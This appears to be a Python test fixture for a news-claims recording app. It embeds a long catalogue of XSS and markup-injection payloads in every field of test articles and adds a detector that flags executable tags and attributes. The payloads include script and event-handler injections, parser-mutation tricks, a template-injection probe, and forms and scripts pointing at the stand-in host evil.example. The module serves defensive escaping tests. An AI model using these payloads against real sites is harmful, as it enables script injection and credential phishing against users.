"""Articles that would act if they could: ways to slip markup into a page, and a record that carries each of them everywhere.

Each vector stands in the text, headline, outlet, byline, address and file name of an article of its own, in the name of who is
cited there, in the claim, and in every reason. What would act sets `hit` on the window or opens a dialogue.
"""

from __future__ import annotations

import hashlib
import re
from dataclasses import replace
from html.parser import HTMLParser
from pathlib import Path

import lxml.html

from accordingto.model import Article, Contents, Contradiction, Entity, Judgement, Rejection, Series, identify
from accordingto.record.store import Record, chained
from tests.present import affair

VECTORS: dict[str, str] = {
    "script": "<script>window.hit=1</script>",
    "script in capitals": "<SCRIPT>window.hit=1</SCRIPT>",
    "script from elsewhere": "<script src=//evil.example/x.js></script>",
    "script never closed": "<script>window.hit=1",
    "script inside script": "<scr<script>ipt>window.hit=1</scr</script>ipt>",
    "script with a slash": "<script/x>window.hit=1</script>",
    "module": "<script type=module>window.hit=1</script>",
    "import map": '<script type="importmap">{"imports":{"/static/room.js":"//evil.example/x.js"}}</script>',
    "speculation": '<script type="speculationrules">{"prefetch":[{"source":"list","urls":["//evil.example/"]}]}</script>',
    "end of a script": "</script><script>window.hit=1</script>",
    "image with onerror": "<img src=x onerror=window.hit=1>",
    "image with quotes": '"><img src=x onerror="window.hit=1">',
    "image with apostrophes": "'><img src=x onerror='window.hit=1'>",
    "image with grave accents": "`><img src=x onerror=`window.hit=1`>",
    "tracking pixel": '<img src="http://evil.example/pixel.gif" width=1 height=1>',
    "source set": '<img srcset="http://evil.example/a 1x, http://evil.example/b 2x">',
    "attribute breaking out": '" onmouseover="window.hit=1" x="',
    "attribute breaking out with apostrophes": "' onfocus='window.hit=1' autofocus='",
    "attribute without quotes": " onpointerenter=window.hit=1 x=",
    "attribute of htmx": '" hx-get="http://evil.example/" hx-trigger="load" x="',
    "script of htmx": '<div hx-on::load="window.hit=1" hx-vals="js:{a:window.hit=1}"></div>',
    "input with focus": "<input autofocus onfocus=window.hit=1>",
    "details": "<details open ontoggle=window.hit=1>",
    "body": "<body onload=window.hit=1>",
    "marquee": "<marquee onstart=window.hit=1>",
    "video": "<video><source onerror=window.hit=1></video>",
    "animation": "<x style=animation-name:x onanimationstart=window.hit=1>",
    "javascript link": '<a href="javascript:window.hit=1">read on</a>',
    "javascript address": "javascript:window.hit=1//",
    "javascript address with a tab": "java\tscript:window.hit=1//",
    "javascript address in capitals and entities": "JaVaScRiPt&colon;window.hit=1//",
    "data link": '<a href="data:text/html,<script>window.hit=1</script>">read on</a>',
    "data address": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript address": "vbscript:msgbox(1)",
    "address without a scheme": "//evil.example/",
    "frame": '<iframe src="javascript:parent.hit=1"></iframe>',
    "srcdoc": '<iframe srcdoc="<script>parent.hit=1</script>"></iframe>',
    "object": '<object data="data:text/html,<script>window.hit=1</script>"></object>',
    "embed": '<embed src="http://evil.example/x.swf">',
    "base": '<base href="http://evil.example/">',
    "refresh": '<meta http-equiv="refresh" content="0;url=http://evil.example/">',
    "policy loosened": '<meta http-equiv="Content-Security-Policy" content="script-src *">',
    "form": '<form action="http://evil.example/"><input name=password><button>Come in</button></form>',
    "form around ours": '</form><form action="http://evil.example/" method=get>',
    "button with an address of its own": '<button formaction="http://evil.example/" form=keys>Accept</button>',
    "stylesheet": '<link rel=stylesheet href="http://evil.example/x.css">',
    "preconnect": '<link rel=preconnect href="http://evil.example/">',
    "style": "<style>@import url(http://evil.example/x.css);*{display:none}</style>",
    "style of an element": '<div style="background:url(http://evil.example/x);position:fixed;inset:0">',
    "style breaking out": '" style="position:fixed;inset:0;background:red',
    "svg": "<svg onload=window.hit=1>",
    "svg script": "<svg><script>window.hit=1</script></svg>",
    "svg animation": "<svg><a><animate attributeName=href values=javascript:window.hit=1 /><text y=20>read on</text></a></svg>",
    "svg use": '<svg><use href="data:image/svg+xml,<svg id=x onload=window.hit=1>#x"></svg>',
    "svg foreign object": "<svg><foreignObject><iframe src=javascript:parent.hit=1></iframe></foreignObject></svg>",
    "svg mutation": '<svg></p><style><g title="</style><img src=x onerror=window.hit=1>">',
    "mathml mutation": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=hit=1&gt;'>",
    "mathml link": '<math><a xlink:href="javascript:window.hit=1">read on</a></math>',
    "noscript mutation": '<noscript><p title="</noscript><img src=x onerror=window.hit=1>">',
    "template": "<template><script>window.hit=1</script></template><slot name=x>",
    "title breaking out": "</title><script>window.hit=1</script><title>",
    "textarea breaking out": "</textarea><script>window.hit=1</script>",
    "comment": "<!--><script>window.hit=1</script>-->",
    "conditional comment": "<!--[if gte IE 4]><script>window.hit=1</script><![endif]-->",
    "end of character data": "]]><script>window.hit=1</script><![CDATA[",
    "processing instruction": "<?xml-stylesheet href='javascript:window.hit=1'?>",
    "entities": "&lt;script&gt;window.hit=1&lt;/script&gt; &#60;img src=x onerror=hit=1&#62; &quot;&amp;amp;",
    "entities of entities": "&amp;lt;script&amp;gt;window.hit=1&amp;lt;/script&amp;gt;",
    "template of the server": "{{7*7}} {% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %} ${7*7} #{7*7}",
    "format of the server": "%(author)s {0} {author} %s",
    "NUL inside a tag": "<scr\0ipt>window.hit=1</scr\0ipt><img src=x one\0rror=window.hit=1>",
    "controls": "<img\x0bsrc=x\x0conerror=window.hit=1>\x1b]0;title\x07\x7f\x9b31m",
    "letters of UTF-7": "+ADw-script+AD4-window.hit+AD0-1+ADw-/script+AD4-",
    "full-width angle brackets": "＜script＞window.hit=1＜/script＞ ‹img src=x onerror=hit=1›",
    "letters that look alike": "<ſcript>window.hit=1</ſcript> <ımg src=x onerror=hit=1>",
    "turned direction": "\u202e<tpircs/>1=tih.wodniw<tpircs>\u202c \u2066<b>\u2069",
    "lines": "one\r\n\r\n<script>window.hit=1</script>\u2028<img src=x\u2029onerror=hit=1>\u0085",
    "shadow of our own elements": '<a id=main name=htmx></a><form id=keys><input name=children><input name=parentNode></form>',
}  # fmt: skip


def carrying(name: str) -> Contents:
    """An affair in which a vector stands wherever words of an article can stand."""
    words = VECTORS[name]
    outlet = f"The Quay {words}"
    one = affair.article(
        f"The lamp failed, {words} and nobody came, Mira Voss {words} said on Monday.\n\nThree boats, 23 people {words}.",
        outlet, "2031-03-04", headline=f"Lamp out {words}", byline=f"By {words}", language="en",
    )  # fmt: skip
    one = replace(
        one, uri=f"quay/{words}.html", also=(f"copy of {words}",), url=f"{words}", headline=f"Lamp out {words}",
        sha256=hashlib.sha256(f"<p>{words}".encode()).hexdigest(), extra={"desk": words},
    )  # fmt: skip
    other = affair.article(
        f"The lamp did not fail, the office said. {words}", f"{outlet} Evening", "2031-03-05", url=f"//{words}"
    )
    holder = f"Mira Voss {words}"
    says = affair.said(one, f"The lamp failed, {words} and nobody came", holder, cue="said", source=holder)
    denies = affair.said(other, "The lamp did not fail", f"Office {words}", cue="said")
    claim = affair.claim(
        affair.member(says), affair.member(denies, "denies"), text=f"The lamp failed {words}", reason=f"they say {words}",
        origins=[affair.origin(holder, one)],
    )  # fmt: skip
    told = affair.happens(one, "failed", affair.day("2031-03-03", f"on Monday {words}"), actor=holder)
    event = replace(affair.event(told), reason=f"told alike {words}")
    figure = replace(affair.figure(one, "23 people", 23, event=event), unit=f"people {words}")
    series: Series = replace(affair.series(figure), reason=f"counted again {words}")
    rival: Contradiction = affair.rivals(
        "polarity", affair.side(says), affair.side(denies), reason=f"both cannot be {words}", claim=claim.id
    )
    copied = affair.derived(other, one, reason=f"the same words {words}")
    where = Entity(identify("e", f"Vardel {words}"), f"Vardel {words}", "place", (f"Old Vardel {words}",), reason=f"as {words}")
    known = Entity(affair.entity(holder).id, holder, "person", (f"Voss {words}",), reason=f"one name {words}")
    return affair.contents(
        articles=(one, other), statements=(says, denies), claims=(claim,), event_mentions=(replace(told, event=event.id),),
        events=(event,), figures=(figure,), series=(series,), contradictions=(rival,), derivations=(copied,),
        entities=(where, known), mentions=affair.named(one, holder),
        rejections=(Rejection.of(f"torn {words}.html", "ingest", f"no words in {words}"),),
    )  # fmt: skip


def original(name: str) -> bytes:
    return f"<p>{VECTORS[name]}".encode()


def judged(contents: Contents, words: str) -> tuple[Judgement, ...]:
    """What somebody decided about the first statement, with a vector as the reason."""
    [first, *_] = contents.statements
    given = Judgement("", "accept", (first.id,), f"m.k. {words}", "2031-03-06T10:00:00.000Z", f"seen {words}")
    return chained([given])


def record_of(path: Path) -> dict[str, Contents]:
    """A record that carries every vector; what carries each, by its name."""
    parts = {name: carrying(name) for name in VECTORS}
    fields = ("articles", "statements", "claims", "event_mentions", "events", "figures", "series", "contradictions",
              "derivations", "entities", "mentions", "rejections")  # fmt: skip
    every = {
        field: tuple({noun.id: noun for part in parts.values() for noun in getattr(part, field)}.values()) for field in fields
    }
    Record.write(path, Contents(**every), {hashlib.sha256(original(name)).hexdigest(): original(name) for name in VECTORS})
    return parts


def first(part: Contents) -> Article:
    return part.articles[0]


# --------------------------------------------------------------------------------------------------------- looking at pages

_WORDS = re.compile(r"\S+")
TAGS = frozenset(
    _WORDS.findall("""
html head meta title link script body a header footer nav main section article aside div span p h1 h2 h3 h4 h5 ul ol li dl dt dd
table caption thead tbody tfoot tr th td colgroup col form fieldset legend label input select optgroup option button output
textarea details summary dialog kbd code pre b i em strong q blockquote cite mark bdi bdo time small sub sup br hr abbr del ins
figure figcaption progress meter data wbr search noscript svg g path rect circle ellipse line polyline polygon text tspan desc
defs use clippath lineargradient stop pattern symbol marker
""")
)  # fmt: skip
ADDRESSES = frozenset(
    _WORDS.findall("href src action cite data poster ping background longdesc manifest hx-get hx-post hx-put xlink:href")
)
NEVER = frozenset(_WORDS.findall("style srcdoc formaction http-equiv srcset background poster ping codebase target"))


class _Tags(HTMLParser):
    """The tags of a page as the standard library reads them, and the words between them."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[tuple[str, dict[str, str]]] = []
        self.words: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, {name: value or "" for name, value in attrs}))

    def handle_data(self, data: str) -> None:
        self.words.append(data)

    def handle_comment(self, data: str) -> None:
        self.found.append((f"<!--{data}-->", {}))

    def handle_pi(self, data: str) -> None:
        self.found.append((f"<?{data}>", {}))


def elements(html: str) -> list[tuple[str, dict[str, str]]]:
    """All elements of a page, as two parsers see them: what one of them overlooks may not escape the other."""
    parser = _Tags()
    parser.feed(html)
    parser.close()
    if not html.strip():
        return parser.found
    tree = lxml.html.document_fromstring(html.replace("\0", ""))
    again = [
        (str(one.tag), {str(name): str(value) for name, value in one.attrib.items()}) for one in tree.iter(lxml.etree.Element)
    ]
    return parser.found + again


def words_of(html: str) -> str:
    """What a page shows, and what stands in its fields and descriptions."""
    parser = _Tags()
    parser.feed(html)
    parser.close()
    return "".join(parser.words)


def acting(html: str) -> list[str]:
    """Everything in a page that no page of ours has: what a vector must have brought."""
    found = []
    for tag, attributes in elements(html):
        shown = f"<{tag} {attributes}>"
        if tag.lower() not in TAGS:
            found.append(shown)
        for name, value in attributes.items():
            low = name.lower()
            if low.startswith("on") or low.startswith("hx-on") or low in NEVER or not low.isascii() or "<" in low or '"' in low:
                found.append(shown)
            if low in ADDRESSES and not (value.startswith(("/", "#", "?")) and not value.startswith(("//", "/\\"))):
                found.append(shown)
            if low in ("hx-vals", "hx-vars", "hx-headers") and value.lstrip().startswith("js"):
                found.append(shown)
        if tag == "script" and not attributes.get("src", "").startswith("/static/"):
            found.append(shown)
        if tag == "link" and attributes.get("rel") not in ("icon", "stylesheet"):
            found.append(shown)
        if tag == "meta" and attributes.get("name", "charset") not in ("charset", "viewport", "color-scheme", "htmx-config"):
            found.append(shown)
    return found
